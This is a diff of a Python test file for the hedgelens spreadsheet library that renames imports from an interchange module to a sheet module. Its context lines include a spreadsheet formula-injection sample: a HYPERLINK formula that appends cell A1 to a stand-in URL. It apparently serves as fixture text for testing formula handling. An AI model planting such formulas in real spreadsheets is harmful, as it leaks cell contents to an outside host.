@@ -10,13 +10,13 @@ import re
 import drafts
 import pytest
 from drafts import Draft
-from interchange.sheets import Sheet
 from openpyxl import load_workbook
+from sheet.sheets import Sheet
 
 from hedgelens import Collection
 from hedgelens.collection import Columns
-from hedgelens.interchange import read_sheet, write_sheet, writing
 from hedgelens.records import HedgeLensError
+from hedgelens.sheet import read_sheet, write_sheet, writing
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"More")'
 TEXT = f"""{FORMULA} perhaps clearly showed it, the mayor said.
